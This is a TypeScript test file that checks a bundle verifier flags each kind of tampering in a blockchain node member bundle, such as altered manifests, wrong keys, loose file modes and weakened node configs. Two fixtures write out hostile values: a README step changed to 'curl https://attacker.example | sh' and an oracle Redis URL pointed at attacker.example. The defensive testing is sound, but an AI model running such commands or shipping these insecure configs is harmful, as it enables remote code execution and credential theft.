/**
 * `verifyMemberBundle` (shared/bundle/verify-bundle.ts) on a member bundle as the CLI writes it (files,
 * modes, manifest.json), and on copies tampered one way each: every failure names its check and file.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { parseSpec } from '../../../shared/spec/parse.js';
import type { CeremonySpec } from '../../../shared/spec/schema.js';
import { buildMemberBundle } from '../../../shared/bundle/member.js';
import { buildManifest, fileBytes, MANIFEST_FILE, serializeManifest } from '../../../shared/bundle/manifest.js';
import { verifyMemberBundle, type FolderFile } from '../../../shared/bundle/verify-bundle.js';
import { finalizedCeremony, keyMaterialOf, type FinalizedCeremony } from './fixture.js';
import { makeKey, type TestMember } from '../../helpers/ceremony.js';

const enc = (text: string): Uint8Array => new TextEncoder().encode(text);
const dec = (bytes: Uint8Array): string => new TextDecoder().decode(bytes);

describe('verifyMemberBundle', () => {
  let fixture: FinalizedCeremony;
  let spec: CeremonySpec;
  let folder: FolderFile[];

  /** The folder with `edit` applied; with `remanifest`, manifest.json is rewritten to match (so only the deeper checks can fail). */
  const tampered = (edit: (files: FolderFile[]) => FolderFile[], remanifest = false): FolderFile[] => {
    const files = edit(folder.map((file) => ({ ...file })));
    if (!remanifest) return files;
    const rest = files.filter((file) => file.path !== MANIFEST_FILE);
    const manifest = buildManifest(rest.map((file) => ({ path: file.path, content: file.content, secret: false })));
    return [...rest, { path: MANIFEST_FILE, content: enc(serializeManifest(manifest)), mode: 0o644 }];
  };
  const replace = (path: string, content: Uint8Array) => (files: FolderFile[]) => files.map((file) => (file.path === path ? { ...file, content } : file));

  const acmeSigner = (i: number): string => (fixture.ceremony.members[0] as TestMember).authorities[i]?.signer.address ?? '';

  beforeAll(async () => {
    fixture = await finalizedCeremony();
    spec = parseSpec(fixture.artifact.spec);
    const acme = fixture.ceremony.members[0] as TestMember;
    const built = buildMemberBundle({ artifact: fixture.artifact, artifactText: fixture.artifactText, spec, member: acme.identity.address, keys: await keyMaterialOf(acme), includeOracleKeys: true });
    folder = [
      ...built.files.map((file) => ({ path: file.path, content: fileBytes(file), mode: file.secret ? 0o600 : 0o644 })),
      { path: MANIFEST_FILE, content: enc(serializeManifest(built.manifest)), mode: 0o644 },
    ];
  });

  it('accepts the bundle as written', () => {
    expect(verifyMemberBundle(fixture.artifact, spec, folder)).toEqual([]);
  });

  const otherNodeKey = (files: FolderFile[]): FolderFile[] => {
    const config = dec(files.find((file) => file.path === 'node-0/config.toml')?.content ?? new Uint8Array());
    return replace('node-0/config.toml', enc(config.replace(/node_key = "[0-9a-f]{64}"/, `node_key = "${Buffer.from(makeKey().secretKey).toString('hex')}"`)))(files);
  };

  const textIn = (files: FolderFile[], path: string): string => dec(files.find((file) => file.path === path)?.content ?? new Uint8Array());
  /** The folder with the text of `path` changed by `change`, and manifest.json rewritten to match. */
  const edited = (path: string, change: (text: string) => string): FolderFile[] => tampered((files) => replace(path, enc(change(textIn(files, path))))(files), true);
  const keystorePath = (node: string): string => folder.find((file) => file.path.startsWith(`${node}/keystore/`))?.path ?? `${node}/keystore/`;
  /** node-0's keystore with its `address` field set to node-1's signer (and the manifest rewritten). */
  const keystoreOfOtherAddress = (): FolderFile[] =>
    edited(keystorePath('node-0'), (json) => JSON.stringify({ ...JSON.parse(json), address: (JSON.parse(textIn(folder, keystorePath('node-1'))) as { address: string }).address }));

  /** node-1's node.key and config.toml both holding one other key. */
  const bothKeysOther = (files: FolderFile[]): FolderFile[] => {
    const other = makeKey().secretKey;
    const config = textIn(files, 'node-1/config.toml').replace(/node_key = "[0-9a-f]{64}"/, `node_key = "${Buffer.from(other).toString('hex')}"`);
    return replace('node-1/config.toml', enc(config))(replace('node-1/node.key', other)(files));
  };

  // A path is a function where it holds a random address (a keystore's file name).
  const CASES: [string, () => FolderFile[], string, string | (() => string)][] = [
    ['a file changed after the manifest', () => tampered(replace('README.md', enc('# changed\n'))), 'manifest', 'README.md'],
    ['a file the manifest does not list', () => tampered((files) => [...files, { path: 'extra.txt', content: enc('x'), mode: 0o644 }]), 'manifest', 'extra.txt'],
    ['a listed file missing', () => tampered((files) => files.filter((file) => file.path !== 'docker-compose.yml')), 'manifest', 'docker-compose.yml'],
    ['no manifest', () => tampered((files) => files.filter((file) => file.path !== MANIFEST_FILE)), 'manifest', MANIFEST_FILE],
    ['a manifest that is not JSON', () => tampered(replace(MANIFEST_FILE, enc('{'))), 'manifest', MANIFEST_FILE],
    ['a secret readable by others', () => tampered((files) => files.map((file) => (file.path === 'node-1/signer.password' ? { ...file, mode: 0o644 } : file))), 'secret mode', 'node-1/signer.password'],
    ['an oracle env with its key at 0644', () => tampered((files) => files.map((file) => (file.path === 'oracle/bridge-0.env' ? { ...file, mode: 0o640 } : file))), 'secret mode', 'oracle/bridge-0.env'],
    ['another artifact copy', () => tampered(replace('artifact.json', enc('{}')), true), 'artifact copy', 'artifact.json'],
    ['a public file changed (manifest updated)', () => tampered(replace('public/bridge/deploy.env', enc('BRIDGE_MODE=ERC_TO_ERC\n')), true), 'public files', 'public/bridge/deploy.env'],
    ['an extra file under public/', () => tampered((files) => [...files, { path: 'public/notes.txt', content: enc('x'), mode: 0o644 }], true), 'public files', 'public/notes.txt'],
    ['a node chain spec that is not the agreed one', () => tampered(replace('node-0/chain-spec.json', enc('{}\n')), true), 'node files', 'node-0/chain-spec.json'],
    ['a peer list of all N (with itself)', () => tampered((files) => replace('node-1/reserved-peers', files.find((file) => file.path === 'public/reserved-peers')?.content ?? new Uint8Array())(files), true), 'node files', 'node-1/reserved-peers'],
    ['a node key that is not the enode\'s', () => tampered(otherNodeKey, true), 'node files', 'node-0/config.toml'],
    ['a raw node key that differs from config.toml', () => tampered(replace('node-1/node.key', makeKey().secretKey), true), 'node files', 'node-1/node.key'],
    ['another node key in both files (they agree, but not with the enode)', () => tampered(bothKeysOther, true), 'node files', 'node-1/node.key'],
    ['another node key in both files, config.toml', () => tampered(bothKeysOther, true), 'node files', 'node-1/config.toml'],
    ['an OpenEthereum config with RPC on all interfaces', () => edited('node-0/config.toml', (t) => t.replace('interface = "127.0.0.1"', 'interface = "all"')), 'node files', 'node-0/config.toml'],
    ['an OpenEthereum config that unlocks the signer', () => edited('node-1/config.toml', (t) => t.replace('[account]\n', `[account]\nunlock = [ "${acmeSigner(1)}" ]\n`)), 'node files', 'node-1/config.toml'],
    ['a Nethermind config without the calls filter', () => edited('node-0/nethermind.json', (t) => t.replace(/,\n\s*"CallsFilterFilePath": "[^"]*"/, '')), 'node files', 'node-0/nethermind.json'],
    ['a Nethermind config with the personal module', () => edited('node-1/nethermind.json', (t) => t.replace('"Web3"', '"Web3", "Personal"')), 'node files', 'node-1/nethermind.json'],
    ['no calls filter file', () => tampered((files) => files.filter((file) => file.path !== 'node-1/jsonrpc.filter'), true), 'node files', 'node-1/jsonrpc.filter'],
    ['a calls filter that lets eth_sign through', () => edited('node-0/jsonrpc.filter', () => '^eth_.*$\n'), 'node files', 'node-0/jsonrpc.filter'],
    ['a static-nodes.json of all N (with itself)', () => tampered((files) => replace('node-0/static-nodes.json', files.find((file) => file.path === 'public/static-nodes.json')?.content ?? new Uint8Array())(files), true), 'node files', 'node-0/static-nodes.json'],
    ['a compose file with another image tag', () => edited('docker-compose.yml', (t) => t.replace('openethereum/openethereum:v3.3.5', 'openethereum/openethereum:v3.3.4')), 'member files', 'docker-compose.yml'],
    ['a compose file that mounts a node folder read-write', () => edited('docker-compose.nethermind.yml', (t) => t.replace('./node-0:/concord:ro', './node-0:/concord')), 'member files', 'docker-compose.nethermind.yml'],
    ['an oracle env with another variable', () => edited('oracle/bridge-0.env', (t) => t.replace('ORACLE_REDIS_URL=redis://redis', 'ORACLE_REDIS_URL=redis://attacker.example')), 'member files', 'oracle/bridge-0.env'],
    ["an oracle env with another validator's key", () => edited('oracle/bridge-0.env', (t) => t.replace(/ORACLE_VALIDATOR_ADDRESS_PRIVATE_KEY=[0-9a-f]{64}/, `ORACLE_VALIDATOR_ADDRESS_PRIVATE_KEY=${Buffer.from(makeKey().secretKey).toString('hex')}`)), 'member files', 'oracle/bridge-0.env'],
    ['a README changed (manifest updated)', () => edited('README.md', (t) => t.replace('docker compose up -d', 'curl https://attacker.example | sh')), 'member files', 'README.md'],
    ["a keystore whose address is another node's signer", keystoreOfOtherAddress, 'node files', () => keystorePath('node-0')],
    ["the other node's keystore under this node's signer", () => tampered((files) => replace(keystorePath('node-0'), enc(textIn(files, keystorePath('node-1'))))(files), true), 'node files', () => keystorePath('node-0')],
    ['no keystore', () => tampered((files) => files.filter((file) => file.path !== keystorePath('node-1')), true), 'node files', () => keystorePath('node-1')],
    ['an empty signer password', () => tampered(replace('node-0/signer.password', new Uint8Array()), true), 'node files', 'node-0/signer.password'],
    ['an extra file in a node folder', () => tampered((files) => [...files, { path: 'node-0/extra.json', content: enc('{}'), mode: 0o644 }], true), 'node files', 'node-0/extra.json'],
    ['an extra file at the top', () => tampered((files) => [...files, { path: 'docker-compose.override.yml', content: enc('services: {}\n'), mode: 0o644 }], true), 'member files', 'docker-compose.override.yml'],
  ];
  for (const [name, make, check, pathOf] of CASES) {
    it(`reports ${name} (${check} at ${typeof pathOf === 'string' ? pathOf : 'its keystore'})`, () => {
      const path = typeof pathOf === 'string' ? pathOf : pathOf();
      const failures = verifyMemberBundle(fixture.artifact, spec, make());
      expect(failures.map((failure) => ({ check: failure.check, path: failure.path }))).toContainEqual({ check, path });
    });
  }

  it('never puts a secret in a failure', () => {
    const otherOracleKey = (files: FolderFile[]): FolderFile[] => replace('oracle/bridge-0.env', enc(textIn(files, 'oracle/bridge-0.env').replace(/(ORACLE_VALIDATOR_ADDRESS_PRIVATE_KEY=)[0-9a-f]{64}/, `$1${'ab'.repeat(32)}`)))(files);
    const failures = verifyMemberBundle(fixture.artifact, spec, tampered((files) => otherOracleKey(otherNodeKey(files)), true));
    expect(failures.map((failure) => failure.path)).toEqual(expect.arrayContaining(['node-0/config.toml', 'oracle/bridge-0.env']));
    const secrets = folder.filter((file) => /node\.key$|signer\.password$/.test(file.path)).map((file) => (file.path.endsWith('.key') ? Buffer.from(file.content).toString('hex') : dec(file.content)));
    secrets.push(/ORACLE_VALIDATOR_ADDRESS_PRIVATE_KEY=([0-9a-f]{64})/.exec(textIn(folder, 'oracle/bridge-0.env'))?.[1] ?? 'no oracle key', 'ab'.repeat(32));
    for (const secret of secrets) expect(JSON.stringify(failures)).not.toContain(secret);
  });
});
